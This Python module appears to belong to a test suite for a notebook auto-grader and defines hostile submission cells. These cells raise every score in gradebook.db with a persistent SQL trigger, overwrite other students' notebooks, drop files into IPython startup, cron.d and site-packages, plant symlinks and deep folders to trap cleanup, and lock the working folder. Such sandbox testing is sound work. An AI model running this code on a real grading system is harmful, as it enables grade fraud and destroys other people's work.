"""Writing where nobody may write: the gradebook, other submissions, the course, the home."""

from .paper import attacks

PLACES = """
near = ["@COURSE@", os.getcwd(), "..", "../..", "../../.."]

def found(places, *patterns):
    pairs = itertools.product(places, patterns)
    return [path for place, pattern in pairs for path in glob.glob(os.path.join(place, pattern))]
"""

CELLS = {
    # Every score in gradebook.db set to its maximum, also for later (a trigger).
    "raise_scores_in_the_gradebook": """
        import sqlite3

        def rob(path):
            base = sqlite3.connect(path, timeout=1)
            base.executescript('''
                update grade set auto_score = 100, manual_score = 100, needs_manual_grade = 0;
                create trigger if not exists generous after update on grade begin
                    update grade set manual_score = 100 where id = new.id; end;
            ''')
            base.commit()

        each(rob, found(near + sys.path, "gradebook.db", "class/gradebook.db"))
    """,
    # Other students' notebooks replaced by an empty one.
    "overwrite_other_submissions": """
        def spoil(path):
            if "@MARK@".removeprefix("attack-") not in path:
                with open(path, "w") as stream:
                    stream.write("spoilt by @MARK@")

        patterns = "class/submitted/*/*/*.ipynb", "submitted/*/*/*.ipynb", "*/*/*.ipynb"
        each(spoil, found(near, *patterns))
    """,
    # Marks in temporary folders, the home, the course, start-up folders and shared memory.
    "leave_files_everywhere": """
        home = os.path.expanduser("~")

        def leave(folder):
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, "@MARK@.py"), "w") as stream:
                stream.write("pass")

        each(leave, [
            "/tmp", "/var/tmp", "/dev/shm", "/run", "/var/lock", home, "@COURSE@", ".", "..", "/",
            home + "/.ipython/profile_default/startup", home + "/.config", home + "/.local/bin",
            "/etc/cron.d", "/usr/local/bin", *(one for one in sys.path if "site-packages" in one),
        ])
    """,
    # Links and devices made in the working folder, for the grader to follow when cleaning up.
    "links_made_inside": """
        links = {"@LESSON@.html": "@COURSE@/class/gradebook.db", "course": "@COURSE@", "root": "/"}
        each(lambda name: os.symlink(links[name], name), links)
        each(os.mkfifo, ["pipe"])

        def dig(deep):
            for _ in range(500):
                os.mkdir(deep)
                os.chdir(deep)

        each(dig, ["d" * 200])
    """,
    # The working folder renamed, emptied and made inaccessible.
    "chmod_and_rename": """
        here = os.getcwd()
        each(lambda name: os.rename(here, name), [here + "-@MARK@"])
        each(lambda path: os.chmod(path, 0), [here])
        each(os.rmdir, [here])
        each(lambda path: os.chmod(path, 0), ["/tmp", "/dev/shm", here])
    """,
}
attacks(__name__, "first", CELLS, prelude=PLACES)
